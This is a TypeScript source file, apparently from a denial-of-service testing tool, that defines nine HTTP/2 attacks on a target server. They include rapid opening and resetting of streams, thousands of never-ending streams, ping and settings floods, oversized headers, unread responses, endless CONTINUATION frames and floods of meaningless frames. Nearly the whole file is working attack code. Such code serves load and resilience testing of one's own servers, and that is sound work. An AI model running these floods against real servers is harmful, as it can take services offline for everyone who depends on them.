import type { Socket } from "node:net";
import type { Attack } from "../attack.ts";
import type { Attacker } from "../attacker/attacker.ts";
import {
  bodyFrames,
  FRAME,
  http2Frame,
  PREFACE,
  requestFrames,
  resetFrame,
  streamId,
} from "../attacker/http2-frames.ts";
import { type Place, placeOf } from "../target.ts";

/** Milliseconds in which the server may still act on frames. */
const AFTERMATH = 1_000;
/** Frames or requests to write at once. */
const AT_ONCE = 50;

/**
 * Writes frames on one HTTP/2 connection, until time is over or it has written `most` times.
 *
 * @param frames returns the n-th frames, counted from 0
 */
export async function pourHttp2(
  attacker: Attacker,
  frames: (n: number, place: Place) => Buffer,
  { most = Number.POSITIVE_INFINITY, reads = true } = {},
): Promise<Socket | undefined> {
  const place = placeOf(attacker.target.http2!);
  const socket = await attacker.openSocket(place, ["h2"]);
  if (socket === undefined) return undefined;
  socket.write(PREFACE);
  if (!reads) socket.pause();
  let n = 0;
  await attacker.pour(socket, () => {
    const some: Buffer[] = [];
    while (some.length < AT_ONCE && n < most) some.push(frames(n++, place));
    return some.length > 0 ? Buffer.concat(some) : undefined;
  });
  if (n >= most) await Promise.race([attacker.untilClosed([socket]), attacker.wait(AFTERMATH)]);
  return socket;
}

function overHttp2(
  number: string,
  title: string,
  frames: (n: number, place: Place) => Buffer,
  options?: { most?: number; reads?: boolean },
): Attack {
  return {
    id: `ATK-I${number}`,
    title,
    over: "sockets",
    needs: ["http2"],
    async run(attacker) {
      await pourHttp2(attacker, frames, options);
      return undefined;
    },
  };
}

function post(n: number, { authority, path, tls }: Place, headers = {}): Buffer {
  return requestFrames(streamId(n), {
    ":method": "POST",
    ":scheme": tls ? "https" : "http",
    ":authority": authority,
    ":path": path,
    ...headers,
  });
}

/** Header fields named `x` without a value. */
const FIELDS = Buffer.concat(Array(100).fill(Buffer.of(0, 1, 0x78, 0)));

/** A frame of an unknown type, and a priority. */
const NOTHING = Buffer.concat([
  http2Frame(0x20, 0, 0),
  http2Frame(FRAME.priority, 0, 1, Buffer.of(0, 0, 0, 0, 1)),
]);

/** I: abuse of HTTP/2, which makes requests cheap to start and to drop. */
export const HTTP2: readonly Attack[] = [
  overHttp2("01", "Streams are opened and reset as fast as possible.", (n, place) =>
    Buffer.concat([post(n, place), resetFrame(streamId(n))]),
  ),
  overHttp2("02", "10,000 streams are opened and never end.", post, { most: 10_000 }),
  overHttp2("03", "Pings flood the connection.", () =>
    http2Frame(FRAME.ping, 0, 0, Buffer.alloc(8)),
  ),
  overHttp2("04", "Settings flood the connection.", () =>
    http2Frame(FRAME.settings, 0, 0, Buffer.of(0, 2, 0, 0, 0, 0)),
  ),
  overHttp2(
    "05",
    "Headers of 60 KB are sent on each of many streams.",
    (n, place) =>
      Buffer.concat([post(n, place, { x: "x".repeat(60_000) }), bodyFrames(streamId(n), "")]),
    { most: 2_000 },
  ),
  overHttp2(
    "06",
    "Responses are asked for and not read.",
    (n, place) =>
      Buffer.concat([
        post(n, place),
        bodyFrames(streamId(n), `["push","${"x".repeat(100_000)}"]\n["pull",1]`),
      ]),
    { most: 500, reads: false },
  ),
  overHttp2(
    "07",
    "Settings flood the connection, and their acknowledgements aren't read.",
    () => http2Frame(FRAME.settings, 0, 0),
    { reads: false },
  ),
  overHttp2("08", "A header block never ends: CONTINUATION frames follow each other.", (n) =>
    http2Frame(n === 0 ? FRAME.headers : FRAME.continuation, 0, 1, FIELDS),
  ),
  overHttp2("09", "Frames that mean nothing flood the connection.", () => NOTHING),
];
